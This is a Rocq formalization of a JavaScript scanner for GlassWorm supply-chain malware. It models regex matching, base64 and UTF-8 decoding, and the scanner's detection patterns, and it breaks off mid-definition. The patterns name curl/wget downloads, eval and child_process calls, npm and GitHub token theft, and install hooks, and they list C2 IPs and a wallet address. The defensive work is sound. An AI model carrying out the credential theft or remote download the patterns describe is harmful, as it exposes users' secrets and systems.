(** * GlassWorm scanner: a shallow embedding of [scan-glassworm.js]

    The development follows the layout of the script: platform values
    (strings, buffers, numbers, paths), the regular expressions and the
    engine that runs them, the content classifier [isBinaryLikely], the
    scoring policy ([scoreFinding], [classify]), the file inspector
    [inspect] and the worker pool of [main].  Definitions come first, the
    theorems about them follow in the second half of the file. *)

From Stdlib Require Import ZArith NArith List String Ascii Bool Lia Permutation Sorted.
From Stdlib Require Import Floats Uint63.
From Stdlib.Strings Require Import Byte.
From Stdlib Require DecimalString.
Import ListNotations.

#[local] Set Warnings "-register-all".

Local Open Scope string_scope.
Local Open Scope list_scope.
Local Open Scope Z_scope.

(* ================================================================== *)
(** ** JavaScript values *)

(** A JavaScript string is a sequence of UTF-16 code units. *)
Definition jsstring := list N.

(** ASCII literals of the script, written as Rocq strings. *)
Definition u (s : string) : jsstring :=
  map N_of_ascii (list_ascii_of_string s).

Fixpoint str_eqb (a b : jsstring) : bool :=
  match a, b with
  | [], [] => true
  | x :: a', y :: b' => N.eqb x y && str_eqb a' b'
  | _, _ => false
  end.

(** [s.startsWith(p)] *)
Fixpoint startsWith (s p : jsstring) : bool :=
  match p, s with
  | [], _ => true
  | y :: p', x :: s' => N.eqb x y && startsWith s' p'
  | _ :: _, [] => false
  end.

(** [s.endsWith(p)] *)
Definition endsWith (s p : jsstring) : bool :=
  startsWith (rev s) (rev p).

(** [s.slice(b, e)] for non-negative integer bounds. *)
Definition slice {A} (s : list A) (b e : nat) : list A :=
  firstn (e - b) (skipn b s).

(** [arr.includes(x)] on an array of strings. *)
Definition includes (l : list jsstring) (x : jsstring) : bool :=
  existsb (str_eqb x) l.

(** [[...new Set(l)]]: first occurrences, in order. *)
Fixpoint unique_from (seen : list jsstring) (l : list jsstring) : list jsstring :=
  match l with
  | [] => []
  | x :: l' => if includes seen x then unique_from seen l'
               else x :: unique_from (x :: seen) l'
  end.
Definition unique (l : list jsstring) : list jsstring := unique_from [] l.

(** A JavaScript number is an IEEE 754 binary64 value. *)
Definition number := float.

(** The number denoted by an integer (exact below 2^53). *)
Definition number_of_Z (n : Z) : number := PrimFloat.of_uint63 (Uint63.of_Z n).

(** [a < b] and [a > b] on numbers; both are false when an operand is NaN. *)
Definition number_lt (a b : number) : bool := PrimFloat.ltb a b.
Definition number_gt (a b : number) : bool := PrimFloat.ltb b a.

(** [Math.trunc(x)] of a number that is finite and not negative; 0 stands
    for the others, which the script never truncates. *)
Definition Math_trunc (x : number) : Z :=
  match Prim2SF x with
  | S754_finite _ m e => if 0 <=? e then Zpos m * 2 ^ e else Zpos m / 2 ^ (- e)
  | _ => 0
  end.

(** The double written [0.1] in the script. *)
Definition one_tenth : number := 0x1.999999999999ap-4%float.

(** Node's [Buffer]: a sequence of octets. *)
Definition Buffer := list byte.

Definition byte_of_N (n : N) : byte :=
  match Byte.of_N (n mod 256) with Some b => b | None => x00 end.

(** Thrown values: the scanner only looks at [err.message]. *)
Record Error := { err_name : string; err_message : string }.

(** Outcome of evaluating code that may throw (or of an async function:
    fulfilled or rejected). *)
Inductive completion (A : Type) : Type :=
| Normal (a : A)
| Throw (e : Error).
Arguments Normal {A} a.
Arguments Throw {A} e.

Definition bind {A B} (c : completion A) (f : A -> completion B) : completion B :=
  match c with
  | Normal a => f a
  | Throw e => Throw e
  end.

Notation "x <- c ;; k" := (bind c (fun x => k))
  (at level 61, c at next level, right associativity).

(* ================================================================== *)
(** ** Regular expressions

    A backtracking matcher in continuation-passing style, after the
    pattern semantics of ECMAScript: alternatives are tried left to right,
    quantifiers are greedy, a quantified atom that matched the empty string
    ends its loop.  Only the constructs the script uses are present. *)

Module RegExp.

Inductive regex : Type :=
| Empty                                            (* the empty pattern *)
| Char (c : N)                                     (* a literal code unit *)
| Class (negated : bool) (ranges : list (N * N))   (* [..] and [^..] *)
| Any                                              (* . *)
| Seq (a b : regex)
| Alt (a b : regex)
| Rep (min : nat) (max : option nat) (a : regex)   (* a{min,max}, greedy *)
| Group (n : nat) (a : regex)                      (* n-th capturing group *)
| WordBoundary                                     (* \b *)
| Bol                                              (* ^ *)
| Eol.                                             (* $ *)

(** A RegExp object: pattern and flags. *)
Record t := { source : regex; global : bool; ignoreCase : bool }.

(** *** Pattern notation helpers *)

Fixpoint lit_chars (l : jsstring) : regex :=
  match l with
  | [] => Empty
  | [c] => Char c
  | c :: l' => Seq (Char c) (lit_chars l')
  end.
Definition lit (s : string) : regex := lit_chars (u s).

Fixpoint seqs (l : list regex) : regex :=
  match l with
  | [] => Empty
  | [r] => r
  | r :: l' => Seq r (seqs l')
  end.

Fixpoint alts (l : list regex) : regex :=
  match l with
  | [] => Empty
  | [r] => r
  | r :: l' => Alt r (alts l')
  end.

Definition ch (s : string) : N :=
  match u s with c :: _ => c | [] => 0%N end.
Definition rng (a b : string) : N * N := (ch a, ch b).
Definition one (a : string) : N * N := (ch a, ch a).
Definition cp (c : N) : N * N := (c, c).

Definition opt (r : regex) : regex := Rep 0 (Some 1%nat) r.
Definition star (r : regex) : regex := Rep 0 None r.
Definition plus (r : regex) : regex := Rep 1 None r.

(** [\d], [\w] and [\s] *)
Definition digit : list (N * N) := [rng "0" "9"].
Definition word : list (N * N) := [rng "A" "Z"; rng "a" "z"; rng "0" "9"; one "_"].
Definition space : list (N * N) :=
  [(9, 13); cp 32; cp 160; cp 0x1680; (0x2000, 0x200A); cp 0x2028; cp 0x2029;
   cp 0x202F; cp 0x205F; cp 0x3000; cp 0xFEFF]%N.

(** *** Matching *)

Definition in_ranges (rs : list (N * N)) (x : N) : bool :=
  existsb (fun r => N.leb (fst r) x && N.leb x (snd r)) rs.

Definition is_lower (c : N) : bool := N.leb 97 c && N.leb c 122.
Definition is_upper (c : N) : bool := N.leb 65 c && N.leb c 90.

(** Canonicalize of the ignoreCase flag.  Upper-casing is modelled on the
    ASCII letters; a code unit of 128 or more never canonicalizes to an ASCII
    one, and every literal and class of the script's case-insensitive
    patterns is ASCII or uncased, so this decides the same matches. *)
Definition canonicalize (ic : bool) (c : N) : N :=
  if ic && is_lower c then (c - 32)%N else c.

Definition class_matches (ic : bool) (rs : list (N * N)) (x : N) : bool :=
  in_ranges rs x
  || (ic && ((is_lower x && in_ranges rs (x - 32)%N)
             || (is_upper x && in_ranges rs (x + 32)%N))).

Definition is_line_terminator (c : N) : bool :=
  N.eqb c 10 || N.eqb c 13 || N.eqb c 0x2028 || N.eqb c 0x2029.

Definition is_word_char (c : N) : bool := in_ranges word c.

(** Captures: group number to the half-open interval it matched last. *)
Definition captures := list (nat * (nat * nat)).

Fixpoint drop_group (n : nat) (c : captures) : captures :=
  match c with
  | [] => []
  | (m, iv) :: c' => if Nat.eqb m n then drop_group n c' else (m, iv) :: drop_group n c'
  end.

Fixpoint groups_of (r : regex) : list nat :=
  match r with
  | Seq a b | Alt a b => groups_of a ++ groups_of b
  | Rep _ _ a => groups_of a
  | Group n a => n :: groups_of a
  | _ => []
  end.

Definition clear_groups (r : regex) (c : captures) : captures :=
  fold_right drop_group c (groups_of r).

Fixpoint capture (n : nat) (c : captures) : option (nat * nat) :=
  match c with
  | [] => None
  | (m, iv) :: c' => if Nat.eqb m n then Some iv else capture n c'
  end.

Section Matcher.
Variable ic : bool.          (* the ignoreCase flag *)
Variable s : jsstring.       (* the input *)

Definition word_at (i : nat) : bool :=
  match nth_error s i with Some c => is_word_char c | None => false end.

Definition word_before (i : nat) : bool :=
  match i with O => false | S j => word_at j end.

Definition cont := nat -> captures -> option (nat * captures).

(** The loop of a quantifier [{min,max}] over the matcher [m] of its atom
    (RepeatMatcher): [clear] resets the captures of the atom before each
    iteration, and an iteration that matched the empty string once [min]
    is reached fails.  [min] iterations may be empty and every further one
    takes a code unit, which bounds the [fuel] that is needed. *)
Fixpoint repeat (m : nat -> captures -> cont -> option (nat * captures))
    (clear : captures -> captures) (k : cont)
    (fuel min : nat) (max : option nat) (i : nat) (cap : captures) {struct fuel}
  : option (nat * captures) :=
  match fuel with
  | O => None
  | S fuel' =>
      match max with
      | Some O => k i cap
      | _ =>
          let d := fun j cap' =>
            if Nat.eqb min 0 && Nat.eqb j i then None
            else repeat m clear k fuel' (Nat.pred min) (option_map Nat.pred max) j cap' in
          if Nat.eqb min 0 then
            match m i (clear cap) d with
            | Some z => Some z
            | None => k i cap
            end
          else m i (clear cap) d
      end
  end.

(** [matcher r i cap k]: match [r] at index [i], then continue with [k];
    the result is the end index and captures of the first overall
    success in backtracking order. *)
Fixpoint matcher (r : regex) (i : nat) (cap : captures) (k : cont) {struct r}
  : option (nat * captures) :=
  match r with
  | Empty => k i cap
  | Char c =>
      match nth_error s i with
      | Some x => if N.eqb (canonicalize ic x) (canonicalize ic c)
                  then k (S i) cap else None
      | None => None
      end
  | Class neg rs =>
      match nth_error s i with
      | Some x => if xorb neg (class_matches ic rs x) then k (S i) cap else None
      | None => None
      end
  | Any =>
      match nth_error s i with
      | Some x => if is_line_terminator x then None else k (S i) cap
      | None => None
      end
  | Seq a b => matcher a i cap (fun j cap' => matcher b j cap' k)
  | Alt a b =>
      match matcher a i cap k with
      | Some z => Some z
      | None => matcher b i cap k
      end
  | Group n a =>
      matcher a i cap (fun j cap' => k j ((n, (i, j)) :: drop_group n cap'))
  | Rep min max a =>
      repeat (matcher a) (clear_groups a) k (min + List.length s + 2) min max i cap
  | WordBoundary => if xorb (word_before i) (word_at i) then k i cap else None
  | Bol => if Nat.eqb i 0 then k i cap else None
  | Eol => if Nat.eqb i (List.length s) then k i cap else None
  end.

(** A matcher is local when it calls its continuation at indices between
    its own and the end of the input only. *)
Definition local (m : nat -> captures -> cont -> option (nat * captures)) : Prop :=
  forall i cap (k k' : cont),
    (i <= List.length s)%nat ->
    (forall j c, (i <= j <= List.length s)%nat -> k j c = k' j c) ->
    m i cap k = m i cap k'.

(** Whatever a matcher returns, its continuation returned, at an index
    not before the matcher's own. *)
Definition passes (m : nat -> captures -> cont -> option (nat * captures)) : Prop :=
  forall i cap (k : cont) z,
    m i cap k = Some z -> exists j c, (i <= j)%nat /\ k j c = Some z.
End Matcher.

(** A match result: [m.index], the end of [m[0]], and the captures. *)
Record Match := { index : nat; endIndex : nat; groups : captures }.

(** Try the start positions [i], [i+1], ... ([n] of them). *)
Fixpoint search (re : t) (s : jsstring) (i n : nat) : option Match :=
  match n with
  | O => None
  | S n' =>
      match matcher (ignoreCase re) s (source re) i [] (fun j c => Some (j, c)) with
      | Some (e, c) => Some {| index := i; endIndex := e; groups := c |}
      | None => search re s (S i) n'
      end
  end.

Definition search_from (re : t) (s : jsstring) (i : nat) : option Match :=
  search re s i (S (List.length s) - i).

(** [re.exec(s)] on a RegExp whose [lastIndex] is [li]: the match and the
    new [lastIndex].  Without the global flag matching starts at 0 and
    [lastIndex] is left alone. *)
Definition exec (re : t) (li : nat) (s : jsstring) : option Match * nat :=
  if global re then
    match search_from re s li with
    | Some m => (Some m, endIndex m)
    | None => (None, O)
    end
  else (search_from re s 0, li).

(** [re.test(s)] *)
Definition test (re : t) (li : nat) (s : jsstring) : bool * nat :=
  match exec re li s with
  | (Some _, li') => (true, li')
  | (None, li') => (false, li')
  end.

(** [re.test(s)] for a RegExp without the global flag, whose [lastIndex]
    stays 0. *)
Definition test0 (re : t) (s : jsstring) : bool := fst (test re 0 s).

(** [m[0]] *)
Definition matched (s : jsstring) (m : Match) : jsstring :=
  slice s (index m) (endIndex m).

(** [m[n]] for a capturing group; [None] is [undefined]. *)
Definition group (s : jsstring) (m : Match) (n : nat) : option jsstring :=
  match capture n (groups m) with
  | Some (b, e) => Some (slice s b e)
  | None => None
  end.

(** All matches of a global RegExp from [li] on: after an empty match the
    next search starts one code unit further. *)
Fixpoint exec_all (re : t) (s : jsstring) (fuel li : nat) : list Match :=
  match fuel with
  | O => []
  | S fuel' =>
      match search_from re s li with
      | None => []
      | Some m =>
          m :: exec_all re s fuel'
                 (if Nat.eqb (endIndex m) (index m) then S (endIndex m) else endIndex m)
      end
  end.

Definition all_matches (re : t) (s : jsstring) : list Match :=
  exec_all re s (List.length s + 2) 0.

(** [s.match(re)]: with the global flag, every [m[0]], or [null] when there
    is none; without it, the first match. *)
Definition String_match (s : jsstring) (re : t) : option (list jsstring) :=
  if global re then
    match all_matches re s with
    | [] => None
    | ms => Some (map (matched s) ms)
    end
  else
    match search_from re s 0 with
    | Some m => Some [matched s m]
    | None => None
    end.

Definition matchAll_TypeError : Error :=
  {| err_name := "TypeError";
     err_message := "String.prototype.matchAll called with a non-global RegExp argument" |}.

(** [[...s.matchAll(re)]]: a TypeError unless [re] has the global flag. *)
Definition String_matchAll (s : jsstring) (re : t) : completion (list Match) :=
  if global re then Normal (all_matches re s)
  else Throw matchAll_TypeError.

(** [s.replace(re, by)] for a global [re] and a replacement without [$]. *)
Fixpoint replace_matches (s : jsstring) (from : nat) (ms : list Match) (by_ : jsstring)
  : jsstring :=
  match ms with
  | [] => skipn from s
  | m :: ms' => slice s from (index m) ++ by_ ++ replace_matches s (endIndex m) ms' by_
  end.

Definition String_replace (s : jsstring) (re : t) (by_ : jsstring) : jsstring :=
  replace_matches s 0 (all_matches re s) by_.

End RegExp.

(* ================================================================== *)
(** ** The patterns of the script *)

Section Patterns.
Import RegExp.

Definition re (r : regex) : RegExp.t :=
  {| source := r; global := false; ignoreCase := false |}.
Definition re_i (r : regex) : RegExp.t :=
  {| source := r; global := false; ignoreCase := true |}.
Definition re_g (r : regex) : RegExp.t :=
  {| source := r; global := true; ignoreCase := false |}.
Definition re_gi (r : regex) : RegExp.t :=
  {| source := r; global := true; ignoreCase := true |}.

(** The class of [INVIS]: U+200B, U+200C, U+200D, U+2060, U+2063, U+00AD,
    U+FE00 to U+FE0F, U+FEFF, U+180E. *)
Definition invisible : list (N * N) :=
  [cp 0x200B; cp 0x200C; cp 0x200D; cp 0x2060; cp 0x2063; cp 0x00AD;
   (0xFE00, 0xFE0F); cp 0xFEFF; cp 0x180E]%N.

(** [[\w$]] *)
Definition word_dollar : list (N * N) := word ++ [one "$"].

Definition INVIS : RegExp.t := re_g (Class false invisible).

Definition INVIS_ID : RegExp.t :=
  re_g (Group 1 (seqs [Class false [rng "A" "Z"; rng "a" "z"; one "_"; one "$"];
                       star (Class false word_dollar);
                       Class false invisible;
                       star (Class false word_dollar)])).

Definition SUS_WORDS : RegExp.t :=
  re_i (seqs [WordBoundary;
              Group 1 (alts [lit "solana"; lit "metaplex"; lit "phantom"; lit "solscan";
                             Seq (lit "rpc") (opt (Alt (lit "Url") (lit ".url")));
                             lit "calendar.app.google"; lit "calendar.google";
                             lit "transaction"; lit "memo"; lit "getTransaction";
                             lit "getParsedTransaction"; lit "wallet";
                             lit "chrome.storage"; lit "browser.storage"]);
              WordBoundary]).

(** A single or a double quote. *)
Definition quote : regex := Class false [one "'"; cp 34%N].

Definition NET_FUNCS : RegExp.t :=
  re (seqs [WordBoundary;
            Group 1 (alts [lit "fetch"; lit "XMLHttpRequest"; lit "axios";
                           seqs [lit "require("; quote; lit "http"; opt (lit "s");
                                 quote; lit ")"];
                           seqs [lit "http"; opt (lit "s"); lit ".";
                                 Group 2 (Alt (lit "get") (lit "request"))]]);
            WordBoundary]).

Definition DANGEROUS : RegExp.t :=
  re (seqs [WordBoundary;
            Group 1 (alts [lit "eval"; lit "Function"; lit "child_process"; lit "spawn";
                           lit "exec"; lit "execFile"; lit "PowerShell";
                           lit "WScript.Shell"]);
            WordBoundary]).

Definition SHELL_DOWNLOAD : RegExp.t :=
  re_i (seqs [WordBoundary;
              Group 1 (alts [lit "curl"; lit "wget"; lit "iwr"; lit "Invoke-WebRequest"]);
              WordBoundary; star Any; WordBoundary;
              Group 2 (Alt (lit "http") (lit "https"));
              lit "://"]).

(** [(?:25[0-5]|2[0-4]\d|[01]?\d?\d)] *)
Definition octet : regex :=
  alts [Seq (lit "25") (Class false [rng "0" "5"]);
        seqs [lit "2"; Class false [rng "0" "4"]; Class false digit];
        seqs [opt (Class false [rng "0" "1"]); opt (Class false digit); Class false digit]].

Definition IP : RegExp.t :=
  re (seqs [WordBoundary;
            Seq octet (Rep 3 (Some 3%nat) (Seq (lit ".") octet));
            WordBoundary]).

(** [[A-Za-z0-9+\/]] and [[A-Za-z0-9+\/=]] *)
Definition b64_alphabet : list (N * N) :=
  [rng "A" "Z"; rng "a" "z"; rng "0" "9"; one "+"; one "/"].
Definition b64_alphabet_pad : list (N * N) := b64_alphabet ++ [one "="].

Definition B64 : RegExp.t :=
  re_g (seqs [Alt Bol (Class true b64_alphabet_pad);
              Group 1 (Seq (Rep 80 (Some 200%nat) (Class false b64_alphabet))
                           (Rep 0 (Some 2%nat) (lit "=")));
              Alt (Class true b64_alphabet_pad) Eol]).

(** [https?:\/\/] followed by one or more characters that are neither
    white space nor one of: double quote, single quote, backquote, the angle
    brackets, the braces. *)
Definition HTTP : RegExp.t :=
  re_i (seqs [lit "http"; opt (lit "s"); lit "://";
              plus (Class true (space ++ [cp 34%N; one "'"; one "`"; one "<"; one ">";
                                          one "{"; one "}"]))]).

(** [[1-9A-HJ-NP-Za-km-z]] *)
Definition base58 : list (N * N) :=
  [rng "1" "9"; rng "A" "H"; rng "J" "N"; rng "P" "Z"; rng "a" "k"; rng "m" "z"].

Definition SOLANA_WALLET : RegExp.t :=
  re (seqs [WordBoundary; Rep 32 (Some 44%nat) (Class false base58); WordBoundary]).

Definition KNOWN_C2_IPS : list jsstring := [u "217.69.3.218"; u "140.82.52.31"].

Definition KNOWN_SOLANA_WALLET : jsstring :=
  u "28PKnu7RzizxBzFPoLp69HLXp9bJL3JFtT2s5QzHsEA2".

Definition CREDENTIAL_THEFT : RegExp.t :=
  re_i (seqs [WordBoundary;
              Group 1 (alts [lit "NPM_TOKEN"; lit "GITHUB_TOKEN"; lit "GH_TOKEN";
                             lit "GITHUB_API_KEY"; lit ".npmrc"; lit ".gitconfig";
                             lit "git-credentials"; lit "credentials.helper";
                             Seq (lit "process.env.")
                                 (Group 2 (alts [lit "npm"; lit "github"; lit "git"]))]);
              WordBoundary]).

Definition VSCODE_EXTENSION_API : RegExp.t :=
  re (seqs [WordBoundary;
            Group 1 (alts [Seq (lit "vscode.")
                               (Group 2 (alts [lit "workspace"; lit "window";
                                               lit "commands"; lit "extensions"]));
                           lit "chrome.runtime"; lit "browser.runtime";
                           lit "chrome.storage"; lit "browser.storage"]);
            WordBoundary]).

Definition CRYPTO_WALLET_EXT : RegExp.t :=
  re_i (seqs [WordBoundary;
              Group 1 (alts [lit "metamask"; lit "phantom"; lit "solflare"; lit "slope";
                             lit "sollet";
                             seqs [lit "coinbase"; star Any; lit "wallet"];
                             seqs [lit "trust"; star Any; lit "wallet"];
                             lit "ledger"; lit "trezor"]);
              WordBoundary]).

(** The regular expression literals written inline in [inspect] and
    [sliceSnippet]. *)

(** [/\b(getTransaction|getParsedTransaction|memo|@solana\/web3|Connection)\b/] *)
Definition SOLANA_KEYWORDS : RegExp.t :=
  re (seqs [WordBoundary;
            Group 1 (alts [lit "getTransaction"; lit "getParsedTransaction"; lit "memo";
                           lit "@solana/web3"; lit "Connection"]);
            WordBoundary]).

(** [/calendar\.app\.google/i] *)
Definition CALENDAR : RegExp.t := re_i (lit "calendar.app.google").

(** [/calendar\.app\.google\/[A-Za-z0-9]+/gi] *)
Definition CALENDAR_URL : RegExp.t :=
  re_gi (Seq (lit "calendar.app.google/")
             (plus (Class false [rng "A" "Z"; rng "a" "z"; rng "0" "9"]))).

(** [/(?:fetch|XMLHttpRequest|atob|Function|eval)\s*\(/] *)
Definition CALL_SHAPED : RegExp.t :=
  re (seqs [alts [lit "fetch"; lit "XMLHttpRequest"; lit "atob"; lit "Function"; lit "eval"];
            star (Class false space); lit "("]).

(** [/\s+/g] *)
Definition WHITESPACE : RegExp.t := re_g (plus (Class false space)).

(** [/^(postinstall|preinstall|install|prepare|prepublish(Only)?)$/i] *)
Definition LIFECYCLE : RegExp.t :=
  re_i (seqs [Bol;
              Group 1 (alts [lit "postinstall"; lit "preinstall"; lit "install";
                             lit "prepare";
                             Seq (lit "prepublish") (opt (Group 2 (lit "Only")))]);
              Eol]).

(** [/\b(node|sh|bash|powershell)\b/] *)
Definition INTERPRETER : RegExp.t :=
  re (seqs [WordBoundary;
            Group 1 (alts [lit "node"; lit "sh"; lit "bash"; lit "powershell"]);
            WordBoundary]).

(** [/\b(sh|bash|powershell|curl|wget|node)\b/] *)
Definition SHELL_OR_FETCHER : RegExp.t :=
  re (seqs [WordBoundary;
            Group 1 (alts [lit "sh"; lit "bash"; lit "powershell"; lit "curl"; lit "wget";
                           lit "node"]);
            WordBoundary]).

End Patterns.

(* ================================================================== *)
(** ** Node's [path] module (POSIX) and string case *)

Definition is_slash (c : N) : bool := N.eqb c 47.
Definition is_dot (c : N) : bool := N.eqb c 46.

Fixpoint drop_while {A} (p : A -> bool) (l : list A) : list A :=
  match l with
  | [] => []
  | x :: l' => if p x then drop_while p l' else l
  end.

Fixpoint take_while {A} (p : A -> bool) (l : list A) : list A :=
  match l with
  | [] => []
  | x :: l' => if p x then x :: take_while p l' else []
  end.

(** [path.basename(p)]: trailing slashes are ignored, then the last
    segment is taken. *)
Definition path_basename (p : jsstring) : jsstring :=
  rev (take_while (fun c => negb (is_slash c)) (drop_while is_slash (rev p))).

(** [path.extname(p)]: from the last dot of the basename on; empty when
    there is no dot, when the only dot leads the basename, and for [..]. *)
Definition path_extname (p : jsstring) : jsstring :=
  let b := path_basename p in
  let tail := take_while (fun c => negb (is_dot c)) (rev b) in
  if negb (existsb is_dot b) then []
  else if Nat.eqb (S (List.length tail)) (List.length b) then []
  else if str_eqb b (u "..") then []
  else 46%N :: rev tail.

(** [s.toLowerCase()], on the ASCII letters.  No other character lowers to
    a letter of the extensions the script compares with, so the extension
    tests decide as in JavaScript. *)
Definition toLowerCase (s : jsstring) : jsstring :=
  map (fun c => if RegExp.is_upper c then (c + 32)%N else c) s.

(* ================================================================== *)
(** ** Constants of the script *)

Definition MAX_BYTES : N := (3 * 1024 * 1024)%N.

Definition ALLOWED_EXT : list jsstring :=
  [u ".js"; u ".mjs"; u ".cjs"; u ".ts"; u ".json"; u ".jsx"; u ".tsx"].

Definition IGNORE_FILES : list jsstring :=
  [u "LICENSE"; u "CHANGELOG"; u "CHANGES"; u "README"; u "HISTORY"; u "NOTICE";
   u "yarn.lock"; u "pnpm-lock.yaml"; u "package-lock.json"; u "npm-shrinkwrap.json"].

Definition SKIP_SUFFIX : list jsstring :=
  [u ".min.js"; u ".map"; u ".d.ts"; u ".md"; u ".markdown"; u ".txt"; u ".svg";
   u ".png"; u ".jpg"; u ".jpeg"; u ".gif"; u ".webp"; u ".wasm"].

(** The settings read from the environment: [MIN_SCORE], [INCLUDE_LOW]
    and [INSPECT_TIMEOUT].  [MIN_SCORE] and [INSPECT_TIMEOUT] are
    [Number(...)] of the text of their variables, so any number, NaN
    included; [INSPECT_TIMEOUT] is handed to [setTimeout] as it is. *)
Record Config := {
  MIN_SCORE : number;
  INCLUDE_LOW : bool;
  INSPECT_TIMEOUT : number
}.

(** The longest delay of a timer of Node, 2^31 - 1 milliseconds. *)
Definition TIMEOUT_MAX : Z := 2147483647.

(** The delay in milliseconds that [setTimeout(fn, ms)] gives its timer:
    Node puts 1 for a delay that is not within 1 .. [TIMEOUT_MAX] (so for
    NaN, for 0, for a negative delay and for one above 2^31 - 1), and
    drops the fraction of a millisecond of the others. *)
Definition timer_delay (ms : number) : N :=
  if PrimFloat.leb 1 ms && PrimFloat.leb ms (number_of_Z TIMEOUT_MAX)
  then Z.to_N (Math_trunc ms)
  else 1%N.

(* ================================================================== *)
(** ** Content classifier *)

(** The loop of [isBinaryLikely] over [buf[0..len-1]]: [None] when it
    returned [true] at a zero byte, otherwise the final [weird]. *)
Fixpoint count_weird (buf : Buffer) (len : nat) (weird : Z) : option Z :=
  match len, buf with
  | S len', b :: buf' =>
      let c := Byte.to_N b in
      if N.eqb c 0 then None
      else if N.ltb c 9 || (N.ltb 13 c && N.ltb c 32)
           then count_weird buf' len' (weird + 1)
           else count_weird buf' len' weird
  | _, _ => Some weird
  end.

Definition isBinaryLikely (buf : Buffer) : bool :=
  let len := Nat.min (List.length buf) 4096 in
  match count_weird buf len 0 with
  | None => true
  | Some weird =>
      number_gt (number_of_Z weird)
                (PrimFloat.mul (number_of_Z (Z.of_nat len)) one_tenth)
  end.

(* ================================================================== *)
(** ** Decoding *)

Inductive utf8_lead : Type :=
| Emit (c : N)
| Start (needed : nat) (acc lower upper : N).

Definition utf8_first (x : N) : utf8_lead :=
  if N.leb x 0x7F then Emit x
  else if N.leb 0xC2 x && N.leb x 0xDF then Start 1 (N.land x 0x1F) 0x80 0xBF
  else if N.leb 0xE0 x && N.leb x 0xEF then
    Start 2 (N.land x 0xF) (if N.eqb x 0xE0 then 0xA0 else 0x80)
            (if N.eqb x 0xED then 0x9F else 0xBF)
  else if N.leb 0xF0 x && N.leb x 0xF4 then
    Start 3 (N.land x 0x7) (if N.eqb x 0xF0 then 0x90 else 0x80)
            (if N.eqb x 0xF4 then 0x8F else 0xBF)
  else Emit 0xFFFD.

(** UTF-8 to code points, an ill-formed sequence giving U+FFFD (the
    decoder of the Encoding standard, which [buf.toString('utf8')]
    follows).  A byte that cannot continue a sequence is read again as the
    first byte of the next one. *)
Fixpoint utf8_code_points (bs : Buffer) (needed : nat) (acc lower upper : N) : list N :=
  match bs with
  | [] => match needed with O => [] | S _ => [0xFFFD%N] end
  | b :: bs' =>
      let x := Byte.to_N b in
      let restart :=
        match utf8_first x with
        | Emit c => c :: utf8_code_points bs' 0 0 0x80 0xBF
        | Start n a l h => utf8_code_points bs' n a l h
        end in
      match needed with
      | O => restart
      | S n' =>
          if N.leb lower x && N.leb x upper then
            let acc' := (acc * 64 + N.land x 0x3F)%N in
            match n' with
            | O => acc' :: utf8_code_points bs' 0 0 0x80 0xBF
            | S _ => utf8_code_points bs' n' acc' 0x80 0xBF
            end
          else 0xFFFD%N :: restart
      end
  end.

(** A code point as UTF-16 code units. *)
Definition utf16_units (c : N) : list N :=
  if N.ltb c 0x10000 then [c]
  else let c' := (c - 0x10000)%N in [0xD800 + c' / 0x400; 0xDC00 + c' mod 0x400]%N.

(** [buf.toString('utf8')] *)
Definition Buffer_toString (buf : Buffer) : jsstring :=
  flat_map utf16_units (utf8_code_points buf 0 0 0x80 0xBF).

Definition b64_value (c : N) : option N :=
  if N.leb 65 c && N.leb c 90 then Some (c - 65)%N
  else if N.leb 97 c && N.leb c 122 then Some (c - 71)%N
  else if N.leb 48 c && N.leb c 57 then Some (c + 4)%N
  else if N.eqb c 43 || N.eqb c 45 then Some 62%N
  else if N.eqb c 47 || N.eqb c 95 then Some 63%N
  else None.

(** The 6-bit values of a base64 text: decoding ends at the first [=],
    characters outside the alphabet are passed over. *)
Fixpoint b64_sextets (s : jsstring) : list N :=
  match s with
  | [] => []
  | c :: s' =>
      if N.eqb c 61 then []
      else match b64_value c with
           | Some v => v :: b64_sextets s'
           | None => b64_sextets s'
           end
  end.

Fixpoint b64_octets (l : list N) : Buffer :=
  match l with
  | a :: b :: c :: d :: l' =>
      byte_of_N (a * 4 + b / 16) :: byte_of_N (b * 16 + c / 4) :: byte_of_N (c * 64 + d)
      :: b64_octets l'
  | [a; b; c] => [byte_of_N (a * 4 + b / 16); byte_of_N (b * 16 + c / 4)]
  | [a; b] => [byte_of_N (a * 4 + b / 16)]
  | _ => []
  end.

(** [Buffer.from(s, 'base64')] *)
Definition Buffer_from_base64 (s : jsstring) : Buffer := b64_octets (b64_sextets s).

(** [decodeB64]: [None] is [null].  Neither [Buffer.from] nor [toString]
    throws, so the [catch] branch is never taken. *)
Definition decodeB64 (s : jsstring) : option jsstring :=
  let buf := Buffer_from_base64 s in
  match buf with
  | [] => None
  | _ =>
      let text := Buffer_toString buf in
      if isBinaryLikely buf then None else Some text
  end.

(* ================================================================== *)
(** ** File-name gates *)

Definition jsLike (ext file : jsstring) : bool :=
  if str_eqb ext (u ".json") then str_eqb (path_basename file) (u "package.json")
  else includes ALLOWED_EXT ext.

Definition ignoreName (name : jsstring) : bool :=
  if includes IGNORE_FILES name then true
  else existsb (fun suf => endsWith name suf) SKIP_SUFFIX.

(** [sliceSnippet(text, idx, span)] *)
Definition sliceSnippet (text : jsstring) (idx span : nat) : jsstring :=
  let s := Nat.max 0 (idx - Nat.div span 2) in
  let e := Nat.min (List.length text) (idx + Nat.div span 2) in
  RegExp.String_replace (slice text s e) WHITESPACE (u " ").

(* ================================================================== *)
(** ** Parsed JSON and the platform *)

Inductive json : Type :=
| JNull
| JBool (b : bool)
| JNumber (x : number)
| JString (s : jsstring)
| JArray (l : list json)
| JObject (m : list (jsstring * json)).   (* own properties, in enumeration order *)

Record Stats := { size : N }.

(** What the script takes from Node: the file system ([None]: the promise
    rejects), [JSON.parse] ([None]: a SyntaxError), the rendering of a
    number by ToString, two times in milliseconds, and [os.cpus().length].
    [io_time file] is how long the file operations that [inspect(file)]
    awaits ([fs.stat], then [fs.readFile]) take from the call to their
    completion; [cpu_time file] is how long the rest of [inspect(file)]
    runs, the decoding and the pattern matching, which never yields to the
    event loop. *)
Record Platform := {
  fs_stat : jsstring -> option Stats;
  fs_readFile : jsstring -> option Buffer;
  JSON_parse : jsstring -> option json;
  Number_toString : number -> jsstring;
  io_time : jsstring -> N;
  cpu_time : jsstring -> N;
  cpus : nat
}.

(** ToBoolean *)
Definition truthy (v : json) : bool :=
  match v with
  | JNull => false
  | JBool b => b
  | JNumber x => negb (PrimFloat.eqb x 0%float) && negb (PrimFloat.is_nan x)
  | JString s => match s with [] => false | _ => true end
  | JArray _ | JObject _ => true
  end.

Fixpoint assoc (k : jsstring) (m : list (jsstring * json)) : option json :=
  match m with
